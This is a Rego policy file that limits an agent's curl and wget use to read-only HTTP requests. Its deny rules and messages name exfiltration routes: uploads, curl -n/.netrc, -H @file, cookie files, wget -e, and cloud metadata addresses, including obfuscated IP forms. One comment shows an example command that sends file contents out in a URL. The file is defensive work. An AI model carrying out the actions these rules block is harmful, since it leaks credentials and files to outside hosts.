# curl and wget are allowed for reading over HTTP (read-only HTTP access):
# uploads and other methods are denied, as are config files that can hold any option,
# commands wget runs, URL schemes other than http(s)/ftp(s)/file (file:// reads are
# checked like any read), files read into requests, and the cloud metadata service.
package cmdgate.tools

import data.cmdgate.lib

# The common case is ruled out first: a contained curl or wget with only options that
# neither send nor read files, and plain http(s) URLs whose host is a name (not an
# address) and not a metadata service.
check(k, c) := set() if {
	k == "curl"
	c.contained == true
	regex.match(`^((-[sSLfkvgGiN#0-9]|--(silent|show-error|location|fail|fail-with-body|insecure|verbose|compressed|globoff|include|http1\.1|http2|no-progress-meter|no-buffer))(\n|$))*$`, concat("\n", c.flags))
	plain_urls(c)
} else := curl_findings(c) if k == "curl"

check(k, c) := set() if {
	k == "wget"
	c.contained == true
	regex.match(`^((-[qcNnv]|--(quiet|no-verbose|continue|timestamping|no-clobber))(\n|$))*$`, concat("\n", c.flags))
	plain_urls(c)
} else := wget_findings(c) if k == "wget"

plain_urls(c) if {
	count(c.operands) > 0
	urls := lower(concat("\n", [o.text | some o in c.operands]))
	regex.match(`^(https?://[a-z0-9-]+(\.[a-z0-9-]+)*\.[a-z][a-z0-9-]*(:[0-9]+)?([/?#][^\n]*)?(\n|$))+$`, urls)
	count([h | some h in data.cmdgate.lists.metadata_hosts; contains(urls, h)]) == 0
}

curl_findings(c) := ((({lib.finding("deny", "network.upload", msg, c) |
	some w in curl_upload_options(c.argv)
	not loopback_request(c)
	msg := sprintf("curl %s sends data; curl is allowed for reads only", [w])
} | {lib.finding("deny", "network.upload", msg, c) |
	some m in lib.option_values(c.argv, {"short": ["X"], "long": ["--request"]})
	not upper(m) in {"GET", "HEAD", "OPTIONS"}
	not loopback_request(c)
	msg := sprintf("curl -X %s is not a read; curl is allowed for reads only", [m])
}) | {lib.finding("deny", "escape.curl_config", "curl -K/--config reads options from a file the policy cannot check", c) |
	curl_config(c.argv)
}) | url_findings(c)) | (dynamic_request_findings(c) | curl_file_findings(c))

# loopback_request: under the sandboxed profile, a request to a development server the
# agent runs on the sandbox's own loopback (curl -X POST http://127.0.0.1:8080/api) may
# send data: every word that could be a URL names a loopback host, and none is only
# known at run time. (Without a network grant the sandbox reaches nothing else anyway.)
loopback_request(c) if {
	lib.sandboxed
	urls := [o.text | some o in c.operands; maybe_url(o.text)]
	count(urls) > 0
	every o in c.operands {
		o.dynamic == false
	}
	every u in urls {
		regex.match(`^(https?://)?(localhost|127\.[0-9]+\.[0-9]+\.[0-9]+|\[::1\])(:[0-9]+)?(/[^@]*)?$`, u)
	}
}

# maybe_url: a word curl could take as a URL: one with a scheme, a dot, a colon or a
# slash that is not JSON, a form field, a header or a file reference. (A bare word such
# as POST, the value of -X, is not; a single-label host is nothing the sandbox without
# network can reach.)
maybe_url(w) if {
	regex.match(`[.:/]`, w)
	not regex.match(`^[{\[@]|[=\s]`, w)
}

# curl_file_findings: options that read a file: headers, variables and cookies from a
# file are sent to the server (network.upload for -H @file and --variable name@file);
# -w @file prints a file, -b FILE sends a cookie file and -n/--netrc sends the
# credentials of the home directory's .netrc (secrets.read).
curl_file_findings(c) := set() if {
	not regex.match(`(?m)^-[^-\n]*[Hwbn]|^--(h|pro|v|w|c|n)`, concat("\n", c.argv))
} else := (({lib.finding("deny", "network.upload", msg, c) |
	some v in lib.option_values(c.argv, {"short": ["H"], "long": ["--header", "--proxy-header"]})
	startswith(v, "@")
	msg := sprintf("curl -H %s sends the contents of a file; curl is allowed for reads only", [v])
} | {lib.finding("deny", "network.upload", msg, c) |
	some v in lib.option_values(c.argv, {"long": ["--variable"]})
	contains(v, "@")
	msg := sprintf("curl --variable %s reads a file into the request; curl is allowed for reads only", [v])
}) | {lib.finding("deny", "secrets.read", msg, c) |
	some v in lib.option_values(c.argv, {"short": ["w"], "long": ["--write-out"]})
	startswith(v, "@")
	lib.secret(lib.target(c, substring(v, 1, -1)))
	msg := sprintf("curl -w %s prints a secret location", [v])
}) | ({lib.finding("deny", "secrets.read", msg, c) |
	some v in lib.option_values(c.argv, {"short": ["b"], "long": ["--cookie"]})
	not contains(v, "=")
	lib.secret(lib.target(c, v))
	msg := sprintf("curl -b %s sends a cookie file from a secret location", [v])
} | {lib.finding("deny", "secrets.read", "curl -n/--netrc sends the credentials of the home directory's .netrc", c) |
	curl_netrc(c.argv)
})

curl_netrc(argv) if lib.has_flag(argv, ["--netrc", "--netrc-optional"])

curl_netrc(argv) if {
	some i, w in argv
	i > 0
	regex.match(`^-[#0-9:aBfgGiIjJklLMNOpqRsSvZ]*n`, w)
}

curl_upload_options(argv) := {w |
	end := lib.dashdash(argv)
	some i, w in argv
	i > 0
	i < end
	curl_upload_word(w)
}

curl_upload_word(w) if {
	startswith(w, "--")
	some p in ["--data", "--form", "--upload-file", "--json", "--post"]
	startswith(w, p)
	not startswith(w, "--post30")
}

curl_upload_word(w) if {
	regex.match(`^-[A-Za-z0-9]+$`, w)
	some letter in ["d", "F", "T"]

	# a cluster of options that take no value, then d, F or T
	regex.match(concat("", [`^-[#0-9:aBfgGiIjJklLMnNOpqRsSvZ]*`, letter]), w)
}

curl_config(argv) if lib.has_flag(argv, ["-K", "--config"])

curl_config(argv) if {
	some i, w in argv
	i > 0
	regex.match(`^-[#0-9:aBfgGiIjJklLMnNOpqRsSvZ]*K`, w)
}

url_findings(c) := ({lib.finding("deny", "network.scheme", msg, c) |
	some o in c.operands
	parts := regex.find_all_string_submatch_n(`^([A-Za-z][A-Za-z0-9+.-]*)://`, o.text, 1)
	count(parts) > 0
	scheme := lower(parts[0][1])
	not scheme in {"http", "https", "ftp", "ftps", "file"}
	msg := sprintf("%s %s uses the %s scheme; only http, https, ftp and file are allowed", [c.name, o.text, scheme])
} | {lib.finding("deny", "secrets.read", msg, c) |
	some o in c.operands
	startswith(lower(o.text), "file://")
	path := substring(o.text, 7, -1)
	t := lib.target(c, path)
	lib.secret(t)
	msg := sprintf("%s %s reads a secret location", [c.name, o.text])
}) | {lib.finding("deny", "network.metadata", msg, c) |
	some o in c.operands
	h := url_host(o.text)
	metadata_host(h)
	msg := sprintf("%s %s reaches the cloud metadata service (or a link-local or obfuscated address), which hands out the machine's credentials", [c.name, o.text])
}

# url_host is the host of a URL, with or without a scheme (curl assumes http://).
url_host(u) := lower(trim(m[1], "[]")) if {
	m := regex.find_all_string_submatch_n(`^(?:[A-Za-z][A-Za-z0-9+.-]*://)?(?:[^/?#@]*@)?(\[[^\]]*\]|[^/?#:]*)`, u, 1)[0]
	m[1] != ""
}

# metadata_host: a metadata service (data.cmdgate.lists.metadata_hosts), a link-local
# address, or an IPv4 address spelled as a number, in octal or hexadecimal, or with
# fewer than four parts (2852039166, 0xa9fea9fe, 0251.0376.0251.0376, 169.254.43518).
metadata_host(h) if h in lib.lists.metadata_hosts

metadata_host(h) if {
	regex.match(`^[0-9]+\.[0-9]+\.[0-9]+\.[0-9]+$`, h)
	net.cidr_contains("169.254.0.0/16", h)
}

metadata_host(h) if regex.match(`(^|:)169\.254\.`, h)

metadata_host(h) if regex.match(`^fe[89ab][0-9a-f]?:`, h)

metadata_host(h) if regex.match(`^(0x[0-9a-f]+|[0-9]+)$`, h)

metadata_host(h) if {
	regex.match(`^((0x[0-9a-f]+|[0-9]+)\.){1,3}(0x[0-9a-f]+|[0-9]+)$`, h)
	obfuscated_ipv4(h)
}

obfuscated_ipv4(h) if count(split(h, ".")) < 4

obfuscated_ipv4(h) if regex.match(`(^|\.)0[0-9x]`, h)

wget_findings(c) := (((({lib.finding("deny", "network.upload", msg, c) |
	end := lib.dashdash(c.argv)
	some i, w in c.argv
	i > 0
	i < end
	some p in ["--post-data", "--post-file", "--body-data", "--body-file"]
	startswith(w, p)
	msg := sprintf("wget %s sends data; wget is allowed for downloads only", [p])
} | {lib.finding("deny", "network.upload", msg, c) |
	some m in lib.option_values(c.argv, {"long": ["--method"]})
	not upper(m) in {"GET", "HEAD", "OPTIONS"}
	msg := sprintf("wget --method %s is not a read; wget is allowed for downloads only", [m])
}) | {lib.finding("deny", "escape.wget_execute", msg, c) |
	some o in ["--config", "--use-askpass"]
	lib.has_flag(c.argv, [o])
	msg := sprintf("wget %s runs commands or reads settings the policy cannot check", [o])
}) | {lib.finding("deny", "escape.wget_execute", msg, c) |
	some v in lib.option_values(c.argv, {"short": ["e"], "long": ["--execute"]})
	not lower(v) in {"robots=off", "robots=on"}
	msg := sprintf("wget -e %s runs a wgetrc command the policy cannot check", [v])
}) | url_findings(c)) | dynamic_request_findings(c)

# network.dynamic_request: a URL, header or option built at run time can carry data
# out of the machine (curl "https://x/?d=$(cat file)"): ask.
dynamic_request_findings(c) := {lib.finding("ask", "network.dynamic_request", msg, c) |
	some o in c.operands
	o.dynamic
	msg := sprintf("%s sends %q, which is only known at run time and may carry data out", [c.name, o.text])
}
